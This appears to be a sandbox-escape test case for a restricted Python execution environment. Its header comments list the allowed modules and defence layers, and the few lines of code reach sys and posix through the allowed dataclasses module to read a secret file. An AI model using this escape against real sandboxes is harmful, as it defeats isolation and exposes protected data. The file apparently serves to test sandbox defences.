# class: allowed modules leak others
# technique: dataclasses holds inspect, which holds importlib and sys
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import dataclasses
found = dataclasses.inspect.sys
reached = found.modules["posix"]
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
